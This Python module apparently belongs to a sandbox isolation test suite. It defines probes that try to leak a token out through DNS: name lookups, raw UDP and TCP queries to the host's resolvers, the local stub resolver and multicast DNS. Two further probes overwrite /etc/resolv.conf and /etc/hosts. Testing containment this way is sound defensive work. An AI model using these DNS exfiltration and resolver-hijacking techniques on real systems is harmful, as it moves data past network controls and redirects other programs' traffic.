"""Names: nothing inside may ask a name server, for a name in a question is a message to whoever serves it."""

import secrets
import socket
import struct
from typing import Final

from workers.attacks.attack import Attack, Missing
from workers.attacks.attempt import PATIENCE_SECONDS, any_of, connect, write
from workers.attacks.bait import Bait


def resolve(bait: Bait) -> str:
    """Resolve a name with the message in it, as any program would."""
    found = socket.getaddrinfo(f"{bait.token[:32]}.example.com", 80)
    return f"answered: {found[0][4]}"


def resolve_literal(bait: Bait) -> str:
    """Resolve a name with the message in it by asking 127.0.0.1 directly."""
    return _ask(("127.0.0.1", 53), bait.token)


def host_server_udp(bait: Bait) -> str:
    """Ask the host's name servers by UDP."""
    servers = bait.name_servers
    if not servers:
        raise Missing("the host has no name server in /etc/resolv.conf")
    return any_of(lambda server: _ask((server, 53), bait.token), servers)


def host_server_tcp(bait: Bait) -> str:
    """Ask the host's name servers by TCP."""
    if not bait.name_servers:
        raise Missing("the host has no name server in /etc/resolv.conf")
    question = _question(bait.token)
    with connect(_family(bait.name_servers[0]), (bait.name_servers[0], 53)) as sock:
        sock.sendall(struct.pack("!H", len(question)) + question)
        return f"answered with {len(sock.recv(4096))} bytes"


def stub(bait: Bait) -> str:
    """Ask the stub resolver that many hosts run at 127.0.0.53."""
    return _ask(("127.0.0.53", 53), bait.token)


def multicast_name(bait: Bait) -> str:
    """Ask the local network by multicast DNS."""
    return _ask(("224.0.0.251", 5353), bait.token)


def redirect_resolver(bait: Bait) -> str:
    """Name another server in /etc/resolv.conf, for every program inside."""
    return write("/etc/resolv.conf", "nameserver 192.0.2.53\n")


def redirect_hosts(bait: Bait) -> str:
    """Give inference.local another address in /etc/hosts."""
    return write("/etc/hosts", "127.0.0.1 inference.local\n")


def _ask(server: tuple[str, int], token: str) -> str:
    with socket.socket(_family(server[0]), socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE_SECONDS)
        sock.sendto(_question(token), server)
        return f"{server[0]} answered with {len(sock.recv(4096))} bytes"


def _family(address: str) -> int:
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def _question(token: str) -> bytes:
    name = b"".join(bytes([len(part)]) + part.encode() for part in (token[:32], "example", "com"))
    return secrets.token_bytes(2) + struct.pack("!5H", 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!2H", 1, 1)


_CHANNEL: Final = "a covert channel: what is asked reaches whoever serves the name"

ATTACKS: Final = (
    Attack(resolve, _CHANNEL),
    Attack(resolve_literal, _CHANNEL),
    Attack(host_server_udp, _CHANNEL),
    Attack(host_server_tcp, _CHANNEL),
    Attack(stub, _CHANNEL),
    Attack(multicast_name, _CHANNEL),
    Attack(redirect_resolver, "the traffic of other programs inside"),
    Attack(redirect_hosts, "the traffic of other programs inside"),
)
